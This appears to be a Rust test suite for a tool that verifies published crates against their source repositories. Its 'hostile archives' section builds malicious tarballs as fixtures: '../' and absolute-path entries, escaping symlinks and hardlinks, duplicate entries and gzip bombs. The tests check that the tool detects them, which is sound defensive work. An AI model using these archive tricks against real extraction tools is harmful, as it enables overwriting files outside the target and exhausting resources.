
#[test]
fn tampered_license_behind_a_file_symlink_is_content_differs() {
    let w = World::new();
    let (bytes, _) = symlinked_workspace(&w);
    let mut ar = CrateArchive::read(&bytes);
    ar.set("LICENSE", "All rights reserved.\n");
    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());

    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
    assert_exit(&out, 1);
    let r = rep.result("wsfoo");
    r.assert_verdict("mismatch");
    assert_only_red_flag(&r, "content-differs", "LICENSE");
}

#[test]
fn workspace_member_inheriting_version_and_repository_is_verified() {
    let w = World::new();
    let repo = w.work_repo("inherit");
    repo.write(
        "Cargo.toml",
        format!(
            "[workspace]\nmembers = [\"crates/*\"]\nresolver = \"2\"\n\n\
             [workspace.package]\nversion = \"2.1.0\"\nedition = \"2021\"\nlicense = \"MIT\"\n\
             repository = \"{}\"\n",
            World::repo_url("inherit")
        ),
    );
    for name in ["inhcore", "inhutil"] {
        repo.write(
            &format!("crates/{name}/Cargo.toml"),
            format!(
                "[package]\nname = \"{name}\"\nversion.workspace = true\nedition.workspace = true\n\
                 license.workspace = true\nrepository.workspace = true\ndescription = \"member\"\n"
            ),
        );
        repo.write(&format!("crates/{name}/src/lib.rs"), LIB_RS);
    }
    let commit = repo.commit_all("workspace");
    w.make_upstream(&repo, "inherit");
    let bytes = w.package(&repo, "inhutil", "2.1.0", false);
    w.registry.publish("inhutil", "2.1.0", &bytes);

    let (out, rep) = w.run_json(&[], &["crates:inhutil@2.1.0"]);
    assert_exit(&out, 0);
    let r = rep.result("inhutil");
    r.assert_verdict("verified").assert_clean();
    assert_eq!(r.commit(), Some(commit.as_str()));
    assert_path_in_repo(&r, "crates/inhutil");
}

// ------------------------------------------------------- human output

/// Replace everything that varies between runs and machines.
fn redact(text: &str, w: &World) -> String {
    let mut s = text.to_string();
    let root = w.root().display().to_string();
    if let Ok(real) = w.root().canonicalize() {
        s = s.replace(&real.display().to_string(), "[TMP]");
    }
    s = s.replace(&root, "[TMP]");
    let rules: &[(&str, &str)] = &[
        (r"127\.0\.0\.1:\d+", "127.0.0.1:[PORT]"),
        (r"localhost:\d+", "localhost:[PORT]"),
        (r"\b[0-9a-f]{64}\b", "[SHA256]"),
        (r"\b[0-9a-f]{40}\b", "[COMMIT]"),
        (r"\b\d+(\.\d+)?\s?(ms|µs|us|s)\b", "[DURATION]"),
    ];
    for (pat, rep) in rules {
        s = regex::Regex::new(pat)
            .unwrap()
            .replace_all(&s, *rep)
            .into_owned();
    }
    // Abbreviated hashes (diff headers, short commit ids): hex words of 7+
    // characters that contain a digit.
    let short = regex::Regex::new(r"\b[0-9a-f]{7,39}\b").unwrap();
    short
        .replace_all(&s, |c: &regex::Captures| {
            let m = &c[0];
            if m.bytes().any(|b| b.is_ascii_digit()) {
                "[HASH]".to_string()
            } else {
                m.to_string()
            }
        })
        .into_owned()
}

#[test]
fn diff_flag_shows_the_changed_line() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "showdiff", |ar| {
        ar.replace_text("src/lib.rs", "    a + b\n", "    a + b + 1\n");
    });
    let out = w.run(&["--format", "human", "--diff"], &[&fx.spec()]);
    assert_exit(&out, 1);
    let text = &out.stdout;
    assert!(text.contains("showdiff"), "{}", out.dump());
    assert!(text.contains("content-differs"), "{}", out.dump());
    assert!(text.contains("src/lib.rs"), "{}", out.dump());
    assert!(
        text.lines().any(|l| l.trim() == "-    a + b"),
        "removed line missing from diff:\n{}",
        out.dump()
    );
    assert!(
        text.lines().any(|l| l.trim() == "+    a + b + 1"),
        "added line missing from diff:\n{}",
        out.dump()
    );
}

#[test]
fn human_report_of_a_mismatch_snapshot() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "snapshot", |ar| {
        ar.replace_text("src/lib.rs", "    a + b\n", "    a + b + 1\n");
        ar.set("src/backdoor.rs", "pub fn exfiltrate() {}\n");
    });
    let out = w.run(&["--format", "human", "--diff"], &[&fx.spec()]);
    assert_exit(&out, 1);
    insta::assert_snapshot!("human_mismatch_with_diff", redact(&out.stdout, &w));
}

// ----------------------------------------------------------------- cache

/// Git directories (bare or `.git`) anywhere below `dir`.
fn git_dirs(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    walk(dir, &mut |p| {
        if p.is_dir() && p.join("HEAD").is_file() && p.join("objects").is_dir() {
            found.push(p.to_path_buf());
        }
    });
    found
}

#[test]
fn second_run_with_same_cache_does_not_reclone() {
    let w = World::new();
    let (fx, _) = published(&w, "cached");
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("cached").assert_verdict("verified");

    let dirs = git_dirs(&w.cache_dir());
    assert!(
        !dirs.is_empty(),
        "no git repository kept below --cache-dir {}",
        w.cache_dir().display()
    );
    // A marker git ignores: it survives a fetch, not a fresh clone.
    for d in &dirs {
        std::fs::write(d.join("provero-test-marker"), "first run").unwrap();
    }
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("cached").assert_verdict("verified");
    for d in &dirs {
        assert!(
            d.join("provero-test-marker").is_file(),
            "cached clone {} was recreated by the second run",
            d.display()
        );
    }
}

// ---------------------------------------------------------------- errors

#[test]
fn version_missing_from_index_is_artifact_unavailable_exit_2() {
    let w = World::new();
    let (_fx, _) = published(&w, "lacking");
    let (out, rep) = w.run_json(&[], &["crates:lacking@9.9.9"]);
    assert_exit(&out, 2);
    let r = rep.result("lacking");
    assert_eq!(r.json["package"]["version"], "9.9.9");
    r.assert_verdict("unverifiable");
    r.assert_finding("artifact-unavailable", "unverifiable", None);
}

#[test]
fn crate_missing_from_index_is_artifact_unavailable_exit_2() {
    let w = World::new();
    let (out, rep) = w.run_json(&[], &["crates:nosuchcrate@1.0.0"]);
    assert_exit(&out, 2);
    assert_eq!(w.server.hits("/index/no/su/nosuchcrate"), 1);
    let r = rep.result("nosuchcrate");
    r.assert_verdict("unverifiable");
    r.assert_finding("artifact-unavailable", "unverifiable", None);
}

#[test]
fn bad_spec_exits_2_and_other_packages_are_still_reported() {
    let w = World::new();
    let (fx, _) = published(&w, "survivor");
    let bad = "nosuchecosystem:foo@1.0.0";
    let (out, rep) = w.run_json(&[], &[bad, &fx.spec()]);
    assert_exit(&out, 2);
    rep.result("survivor").assert_verdict("verified");
    assert!(
        rep.json["summary"]["errors"].as_u64() >= Some(1),
        "summary should count the error: {:#}",
        rep.json["summary"]
    );
    assert!(
        out.stderr.contains(bad) || out.stdout.contains(bad),
        "the bad spec should be named:\n{}",
        out.dump()
    );
}

#[test]
fn several_packages_with_jobs_worst_exit_wins() {
    let w = World::new();
    let (good, _) = published(&w, "goodone");
    let (bad, _) = published_tampered(&w, "badone", |ar| {
        ar.replace_text("src/lib.rs", "hello, {name}", "hi, {name}");
    });
    let (out, rep) = w.run_json(&["--jobs", "2"], &[&good.spec(), &bad.spec()]);
    assert_exit(&out, 1);
    assert_eq!(rep.results().len(), 2);
    rep.result("goodone").assert_verdict("verified");
    let r = rep.result("badone");
    r.assert_verdict("mismatch");
    r.assert_finding("content-differs", "red-flag", Some("src/lib.rs"));
    let sum = &rep.json["summary"];
    assert_eq!(
        (
            &sum["packages"],
            &sum["verified"],
            &sum["mismatch"],
            &sum["unverifiable"],
            &sum["errors"]
        ),
        (&2.into(), &1.into(), &1.into(), &0.into(), &0.into()),
        "summary: {sum:#}"
    );
}

#[test]
fn download_503_twice_then_ok_is_retried() {
    let w = World::new();
    let (fx, dl) = published(&w, "flaky");
    w.server.fail_next(&dl, 503, 2);
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("flaky").assert_verdict("verified");
    assert_eq!(w.server.hits(&dl), 3, "{:?}", w.server.requests_for(&dl));
}

#[test]
fn download_429_honours_retry_after() {
    let w = World::new();
    let (fx, dl) = published(&w, "limited");
    w.server.rate_limit_next(&dl, 1, 1);
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    rep.result("limited").assert_verdict("verified");
    let reqs = w.server.requests_for(&dl);
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    assert_eq!((reqs[0].status, reqs[1].status), (429, 200));
    let gap = reqs[1].at.duration_since(reqs[0].at);
    assert!(
        gap >= Duration::from_millis(900),
        "retried after {gap:?}, before Retry-After: 1 elapsed"
    );
}

#[test]
fn download_failing_for_good_is_artifact_unavailable() {
    let w = World::new();
    let (fx, dl) = published(&w, "down");
    w.server.fail_next(&dl, 503, 1000);
    let start = Instant::now();
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 2);
    let r = rep.result("down");
    r.assert_verdict("unverifiable");
    r.assert_finding("artifact-unavailable", "unverifiable", None);
    let hits = w.server.hits(&dl);
    assert!((2..=10).contains(&hits), "retried {hits} times");
    assert!(start.elapsed() < Duration::from_secs(60));
}

// ------------------------------------------------------ hostile archives

/// Assert an `unsafe-archive-entry` red flag naming `token` in its path or
/// message, a mismatch verdict, exit 1, and nothing written outside the
/// cache dir.
fn assert_unsafe_entry(w: &World, out: &Output, rep: &Report, name: &str, token: &str) {
    assert_exit(out, 1);
    let r = rep.result(name);
    r.assert_verdict("mismatch");
    let flags = r.with_code("unsafe-archive-entry");
    assert!(
        flags.iter().any(|f| f.severity == "red-flag"
            && (f.path.as_deref().is_some_and(|p| p.contains(token)) || f.message.contains(token))),
        "no unsafe-archive-entry red flag naming {token:?}; result:\n{:#}",
        r.json
    );
    assert_nothing_escaped(w, token);
}

fn assert_nothing_escaped(w: &World, token: &str) {
    assert_eq!(
        w.files_named_outside_cache(token),
        Vec::<PathBuf>::new(),
        "archive content escaped the cache dir"
    );
    let in_tmp = std::env::temp_dir().join(token);
    assert!(!in_tmp.exists(), "{} was written", in_tmp.display());
    assert!(!Path::new("/").join(token).exists());
    w.assert_cwd_untouched();
}

fn victim_dir(w: &World) -> PathBuf {
    let v = w.root().join("victim");
    std::fs::create_dir_all(&v).unwrap();
    std::fs::write(v.join("secret.txt"), "do not touch\n").unwrap();
    v
}

#[test]
fn entry_with_dotdot_is_unsafe() {
    let w = World::new();
    let token = unique_token("dotdot");
    let deep = format!("{}{}", "../".repeat(16), "tmp/");
    let (fx, _) = published_tampered(&w, "dotdot", |ar| {
        let pre = ar.prefix.clone();
        ar.push_raw(Entry::file(format!("{pre}/../{token}"), "escaped\n"));
        ar.push_raw(Entry::file(format!("{pre}/src/{deep}{token}"), "escaped\n"));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_unsafe_entry(&w, &out, &rep, "dotdot", &token);
}

#[test]
fn entry_with_absolute_path_is_unsafe() {
    let w = World::new();
    let victim = victim_dir(&w);
    let token = unique_token("abs");
    let target = victim.join(&token);
    let (fx, _) = published_tampered(&w, "abspath", |ar| {
        ar.push_raw(Entry::file(target.display().to_string(), "escaped\n"));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert!(!target.exists(), "{} written", target.display());
    assert_unsafe_entry(&w, &out, &rep, "abspath", &token);
}

#[test]
fn symlink_to_absolute_path_outside_is_unsafe() {
    let w = World::new();
    let victim = victim_dir(&w);
    let token = unique_token("abslink");
    let (fx, _) = published_tampered(&w, "abslink", |ar| {
        let pre = ar.prefix.clone();
        ar.push_raw(Entry::symlink(
            format!("{pre}/{token}"),
            victim.display().to_string(),
        ));
        // Writing through the link would land in the victim directory.
        ar.push_raw(Entry::file(format!("{pre}/{token}/pwned.txt"), "pwned\n"));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert!(!victim.join("pwned.txt").exists(), "wrote through the link");
    assert_eq!(
        std::fs::read_to_string(victim.join("secret.txt")).unwrap(),
        "do not touch\n"
    );
    assert_unsafe_entry(&w, &out, &rep, "abslink", &token);
}

#[test]
fn relative_symlink_escaping_the_package_is_unsafe() {
    let w = World::new();
    let token = unique_token("rellink");
    let (fx, _) = published_tampered(&w, "rellink", |ar| {
        let pre = ar.prefix.clone();
        ar.push_raw(Entry::symlink(format!("{pre}/src/{token}"), "../../../.."));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_unsafe_entry(&w, &out, &rep, "rellink", &token);
}

#[test]
fn hardlink_to_outside_file_is_unsafe() {
    let w = World::new();
    let victim = victim_dir(&w);
    let token = unique_token("hardlink");
    let (fx, _) = published_tampered(&w, "hardlink", |ar| {
        let pre = ar.prefix.clone();
        ar.push_raw(Entry::hardlink(
            format!("{pre}/src/{token}.rs"),
            victim.join("secret.txt").display().to_string(),
        ));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(victim.join("secret.txt"))
            .unwrap()
            .nlink(),
        1,
        "a hard link to the victim file was created"
    );
    assert_unsafe_entry(&w, &out, &rep, "hardlink", &token);
}

#[test]
fn duplicate_entry_is_unsafe() {
    let w = World::new();
    let (fx, _) = published_tampered(&w, "dupentry", |ar| {
        let pre = ar.prefix.clone();
        // The honest src/lib.rs stays; a second one follows and would win
        // on extraction.
        ar.push_raw(Entry::file(
            format!("{pre}/src/lib.rs"),
            "pub fn add(a: u32, b: u32) -> u32 { a - b }\n",
        ));
    });
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("dupentry");
    r.assert_verdict("mismatch");
    r.assert_finding("unsafe-archive-entry", "red-flag", Some("src/lib.rs"));
    w.assert_cwd_untouched();
}

/// Publish the honest entries of a fresh crate followed by zero-filled
/// files described by `zero_files` (name relative to the prefix, size).
fn publish_zero_bomb(w: &World, name: &str, zero_files: &[(String, u64)]) -> CrateFixture {
    let fx = w.honest_crate(name, "1.0.0");
    let ar = fx.archive();
    let pre = ar.prefix.clone();
    let bombs: Vec<(Entry, u64)> = zero_files
        .iter()
        .map(|(rel, n)| (Entry::file(format!("{pre}/{rel}"), Vec::new()), *n))
        .collect();
    let bytes = tarball::gzip_with_zero_runs(&ar.entries, &bombs);
    w.publish(&fx, &bytes);
    fx
}

fn assert_too_large(w: &World, out: &Output, rep: &Report, name: &str, elapsed: Duration) {
    assert!(
        out.code == 0 || out.code == 2,
        "too large is not a red flag (exit {})\n{}",
        out.code,
        out.dump()
    );
    let r = rep.result(name);
    r.assert_verdict("unverifiable");
    r.assert_finding("artifact-too-large", "unverifiable", None);
    assert!(
        elapsed < Duration::from_secs(60),
        "took {elapsed:?}: the cap should stop decompression early"
    );
    w.assert_cwd_untouched();
}

#[test]
fn gzip_bomb_of_many_entries_is_too_large() {
    let w = World::new();
    // 64 files of 64 MiB: 4 GiB of zeros in a few megabytes of gzip.
    let files: Vec<(String, u64)> = (0..64)
        .map(|i| (format!("data/blob{i:02}.bin"), 64 << 20))
        .collect();
    let fx = publish_zero_bomb(&w, "bomb", &files);
    let start = Instant::now();
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_too_large(&w, &out, &rep, "bomb", start.elapsed());
}

#[test]
fn single_huge_entry_is_too_large() {
    let w = World::new();
    // One 5 GiB file (its size does not even fit in 32 bits).
    let fx = publish_zero_bomb(&w, "hugefile", &[("src/huge.rs".to_string(), 5 << 30)]);
    let start = Instant::now();
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_too_large(&w, &out, &rep, "hugefile", start.elapsed());
}

#[test]
fn archive_with_too_many_entries_is_too_large() {
    let w = World::new();
    let fx = w.honest_crate("manyfiles", "1.0.0");
    let mut entries = fx.archive().entries;
    let pre = fx.archive().prefix;
    // 120,000 empty files (main caps entries at 100,000): about 60 MB of
    // tar headers, a few MB gzipped.
    entries.extend((0..120_000).map(|i| Entry::file(format!("{pre}/e/{i}"), Vec::new())));
    let tar = tarball::tar_bytes(&entries);
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut enc, &tar).unwrap();
    let bytes = enc.finish().unwrap();
    w.publish(&fx, &bytes);
    let start = Instant::now();
    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_too_large(&w, &out, &rep, "manyfiles", start.elapsed());
}

#[test]
fn files_inside_a_git_submodule_are_compared_with_the_submodule() {
    // A -sys style crate vendoring a library as a submodule (relative URL, as projects on
    // one forge do): cargo packages the submodule's files, provero follows the gitlink.
    let w = World::new();
    let lib = w.work_repo("vendored");
    lib.write("lib.c", "int x;\n")
        .write("inc/a.h", "#define A 1\n");
    lib.commit_all("vendored library");
    w.make_upstream(&lib, "vendored");

    let repo = w.work_repo("withsub");
    common::crates::write_crate(
        &repo,
        "",
        "withsub",
        "1.0.0",
        Some(&World::repo_url("withsub")),
    );
    repo.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        "../vendored",
        "vendor",
    ]);
    let commit = repo.commit_all("add the vendored library");
    repo.tag("v1.0.0", &commit);
    let upstream = w.make_upstream(&repo, "withsub");
    let crate_bytes = w.package(&repo, "withsub", "1.0.0", false);
    let fx = CrateFixture {
        name: "withsub".into(),
        version: "1.0.0".into(),
        repo,
        upstream,
        commit,
        crate_bytes,
    };
    let ar = fx.archive();
    assert!(ar.get("vendor/lib.c").is_some(), "{:?}", ar.paths());
    w.publish(&fx, &fx.crate_bytes);

    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
    assert_exit(&out, 0);
    let r = rep.result("withsub");
    r.assert_verdict("verified").assert_no_red_flags();

    // A changed line inside the submodule is caught against the submodule's own tree.
    // (The cached artifact is dropped so the re-published bytes are downloaded again.)
    std::fs::remove_dir_all(w.cache_dir().join("artifacts")).unwrap();
    let mut ar = fx.archive();
    ar.set("vendor/lib.c", "int x; void evil(void) {}\n");
    w.publish(&fx, &ar.to_bytes());
    let (out, rep) = w.run_json(&["--no-db"], &[&fx.spec()]);
    assert_exit(&out, 1);
    let r = rep.result("withsub");
    r.assert_verdict("mismatch");
    r.assert_finding("content-differs", "red-flag", Some("vendor/lib.c"));
}
